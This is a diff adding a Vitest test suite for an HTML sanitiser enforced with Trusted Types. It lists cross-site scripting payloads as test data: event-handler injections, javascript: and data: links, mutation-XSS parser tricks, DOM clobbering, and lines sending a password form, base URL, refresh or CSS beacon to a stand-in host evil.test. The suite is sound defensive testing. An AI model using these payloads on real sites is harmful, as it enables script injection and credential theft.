@@ -1,0 +1,161 @@
+import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
+import type { sanitise as Sanitise } from "./sanitise.ts";
+
+interface PolicyFactory {
+  createPolicy: (
+    name: string,
+    rules: { createHTML: (html: string) => string },
+  ) => { createHTML: (html: string) => string };
+}
+
+/** What an attack does when it gets through. */
+const fired = vi.fn();
+const policies: string[] = [];
+let sanitise: typeof Sanitise;
+
+/** A policy only this test knows, to put attacks on the page as they are. */
+let raw: (html: string) => string;
+
+beforeAll(async () => {
+  Object.assign(window, { fired });
+  const factory = (window as unknown as { trustedTypes: PolicyFactory }).trustedTypes;
+  const createPolicy = factory.createPolicy.bind(factory);
+  vi.spyOn(factory, "createPolicy").mockImplementation((name, options) => {
+    policies.push(name);
+    return createPolicy(name, options);
+  });
+  const control = createPolicy("test-control", { createHTML: (html: string) => html });
+  raw = (html) => control.createHTML(html);
+  // From here on this page refuses plain strings, and any policy but the two named.
+  const rule = document.createElement("meta");
+  rule.httpEquiv = "Content-Security-Policy";
+  rule.content = "require-trusted-types-for 'script'; trusted-types recurrent-html";
+  document.head.append(rule);
+  ({ sanitise } = await import("./sanitise.ts"));
+});
+
+afterEach(() => {
+  document.body.replaceChildren();
+  fired.mockClear();
+});
+
+function show(html: string): HTMLElement {
+  const box = document.createElement("div");
+  document.body.append(box);
+  box.replaceChildren(sanitise(html));
+  return box;
+}
+
+/** Long enough for a broken picture or a data frame to report. */
+const settle = () => new Promise((resolve) => setTimeout(resolve, 60));
+
+/** Attacks that run by themselves once they are in the page. */
+const RUNNING = [
+  `<img src="x:y" onerror="fired()">`,
+  `<svg><animate onbegin="fired()" attributeName="x" dur="1s"></svg>`,
+  `<details open ontoggle="fired()">text</details>`,
+  `<input autofocus onfocus="fired()">`,
+  `<video><source onerror="fired()"></video>`,
+  `<iframe srcdoc="<script>parent.fired()</script>"></iframe>`,
+  `<div style="animation:a 1ms" onanimationstart="fired()"><style>@keyframes a{to{top:0}}</style></div>`,
+];
+
+/** Attacks that wait for a press or for a parser to misread them. */
+const SLEEPING = [
+  `<svg onload="fired()"></svg>`,
+  `<iframe src="javascript:parent.fired()"></iframe>`,
+  `<math><mtext><table><mglyph><style><img src="x:y" onerror="fired()">`,
+  `<script>fired()</script>`,
+  `<a href="javascript:fired()">a</a>`,
+  `<a href=" java\nscript:fired()">a</a>`,
+  `<a href="&#106;avascript:fired()">a</a>`,
+  `<a href="data:text/html,<script>parent.fired()</script>">a</a>`,
+  `<a href="vbscript:fired()">a</a>`,
+  `<a href="//evil.test">a</a>`,
+  `<a href="#/logout">a</a>`,
+  `<a href="https://ok.test" onclick="fired()">a</a>`,
+  `<form action="https://evil.test"><input name="password"><button>Sign in</button></form>`,
+  `<form id="a"><button form="a" formaction="javascript:fired()">b</button></form>`,
+  `<base href="https://evil.test/">`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
+  `<link rel="stylesheet" href="https://evil.test/a.css">`,
+  `<object data="javascript:fired()"></object><embed src="javascript:fired()">`,
+  `<template><img src=x onerror=fired()></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=fired()>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=fired()>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired()>`,
+  `<a id="config" class="nav" name="location" style="position:fixed;inset:0" href="https://ok.test">a</a>`,
+  `<p style="background:url(https://evil.test)" data-theme="dark" aria-hidden="true">p</p>`,
+  `<x-widget onfoo="fired()">text</x-widget>`,
+];
+
+describe("the attacks are real", () => {
+  it.each(RUNNING)("runs unsanitised: %s", async (attack) => {
+    const box = document.createElement("div");
+    document.body.append(box);
+    box.innerHTML = raw(attack);
+    await expect.poll(() => fired.mock.calls.length, { timeout: 2000 }).toBeGreaterThan(0);
+  });
+});
+
+describe("sanitised HTML", () => {
+  it.each([...RUNNING, ...SLEEPING])("does nothing: %s", async (attack) => {
+    const box = show(attack);
+    for (const link of box.querySelectorAll("a")) {
+      link.addEventListener("click", (event) => event.preventDefault());
+      link.click();
+    }
+    await settle();
+    expect(fired).not.toHaveBeenCalled();
+    const kept = [...box.querySelectorAll("*")];
+    expect(
+      kept.filter((element) =>
+        element.matches(
+          "script,style,link,meta,base,iframe,object,embed,form,input,button,select,textarea,template,svg,math,img,video",
+        ),
+      ),
+    ).toEqual([]);
+    const attributes = kept.flatMap((element) => [...element.attributes].map(({ name }) => name));
+    expect(attributes.filter((name) => !["href", "rel", "target"].includes(name))).toEqual([]);
+    for (const link of box.querySelectorAll("a[href]")) {
+      expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
+    }
+  });
+
+  it("keeps what a writer needs", () => {
+    const html =
+      `<p>From <time datetime="2026-11-28">2026-11-28</time>, <strong>Ground De-icing</strong> ` +
+      `<em>opens</em>:</p><ul><li>one</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`;
+    expect(show(html).innerHTML).toBe(html);
+  });
+
+  it("gives web links a tab of their own without a way back, and leaves mail links be", () => {
+    const box = show(
+      `<a href="https://ok.test/a" target="_top" rel="opener">web</a><a href="mailto:a@ok.test">mail</a>`,
+    );
+    const [web, mail] = box.querySelectorAll("a");
+    expect(web).toMatchObject({ target: "_blank", rel: "noopener noreferrer" });
+    expect(mail).toMatchObject({ target: "", rel: "noopener noreferrer" });
+  });
+
+  it("keeps the page's outline: headings start below the title", () => {
+    const box = show("<h1>Winter <em>operations</em></h1><h2>b</h2><h3>c</h3>");
+    expect(box.innerHTML).toBe("<h3>Winter <em>operations</em></h3><h3>b</h3><h3>c</h3>");
+  });
+
+  it.each([
+    ["", ""],
+    ["plain & simple < 5", "plain &amp; simple &lt; 5"],
+    ["<p>unclosed <b>bold", "<p>unclosed <b>bold</b></p>"],
+  ])("reads %j without trouble", (html, expected) => {
+    expect(show(html).innerHTML).toBe(expected);
+  });
+
+  it("needs one Trusted Types policy, in force on this page, and no other", () => {
+    expect(() => {
+      document.createElement("div").innerHTML = "<b>plain string</b>";
+    }).toThrow(TypeError);
+    show("<p>text</p>");
+    expect(policies).toEqual(["recurrent-html"]);
+  });
+});
